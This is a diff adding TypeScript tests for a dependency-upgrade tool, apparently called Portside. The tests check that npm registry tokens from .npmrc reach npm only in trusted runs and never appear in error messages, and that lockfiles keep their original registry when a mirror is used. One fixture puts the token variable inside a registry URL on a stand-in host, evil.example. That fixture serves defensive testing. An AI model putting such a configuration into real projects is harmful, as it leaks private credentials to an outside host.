@@ -219,6 +219,70 @@ describe('the lockfile stays as it is', () => {
     );
   });
 
+  describe('with a login that .npmrc names by a variable', () => {
+    const files = { 'app/.npmrc': '//npm.corp/:_authToken=${' + 'CORP_TOKEN}' };
+    const set = (name: string) => ({ PATH: bin.path, CORP_TOKEN: 'tok/en', OTHER: 'x' })[name];
+    const trusted = { passesCredentials: true, variable: set };
+
+    it('npm gets this variable in a run whose files are trusted, and messages do not have it', async () => {
+      const script = `console.error(process.env.CORP_TOKEN + process.env.OTHER); process.exit(1)`;
+      await expect(raise(script, files, trusted)).rejects.toThrow('status 1: …undefined');
+    });
+
+    it.each([
+      [
+        'the variable is not set',
+        { ...trusted, variable: () => undefined },
+        'CORP_TOKEN, which is not set',
+      ],
+      [
+        'anybody may have written the file',
+        { variable: set },
+        'CORP_TOKEN, which Portside does not pass on',
+      ],
+    ])('it is not raised if %s', async (_, options, message) => {
+      await expect(raise('', files, options)).rejects.toThrow(message);
+    });
+
+    it('it is not raised if the variable is in the address of a registry', async () => {
+      const address = { 'app/.npmrc': 'registry=https://evil.example/${' + 'CORP_TOKEN}' };
+      await expect(raise('', address, trusted)).rejects.toThrow('which Portside does not pass on');
+    });
+  });
+
+  describe('with a registry that has a mirror', () => {
+    const at = (host: string, version: string, more: object = {}) => ({
+      ...{
+        version,
+        integrity: 'sha512-x',
+        resolved: `https://${host}/a/-/a-${version}.tgz`,
+        ...more,
+      },
+    });
+    const old = lockOf({ 'node_modules/a': at('registry.npmjs.org', '1.0.0') });
+    const lock = (packages: object) => writes(lockOf(packages));
+    const files = { 'app/package-lock.json': old };
+
+    it('the lockfile keeps its registry', async () => {
+      const script = lock({ 'node_modules/a': at('nexus.corp/npm', '1.0.1') });
+      const texts = await raise(script, files);
+      const kept = lockOf({ 'node_modules/a': at('registry.npmjs.org', '1.0.1') });
+      expect(texts.get('app/package-lock.json')).toBe(kept);
+    });
+
+    it.each([
+      ['has no hash', at('nexus.corp', '1.0.1', { integrity: undefined })],
+      [
+        'has another name for its file',
+        at('nexus.corp', '1.0.1', { resolved: 'https://nexus.corp/x.tgz' }),
+      ],
+    ])('it is not raised if the package %s', async (_, entry) => {
+      await expect(raise(lock({ 'node_modules/a': entry }), files)).rejects.toThrow(
+        'npm would write that a comes from nexus.corp, which is not in the lockfile',
+      );
+    });
+  });
+
   it('if npm changes a package that the raised one does not need', async () => {
     const lock = RAISED.replace(/(?<="node_modules\/c": \{\s+"version": )"1.0.0"/, '"6.6.6"');
     await expect(raise(writes(lock))).rejects.toThrow('it changes c 6.6.6');
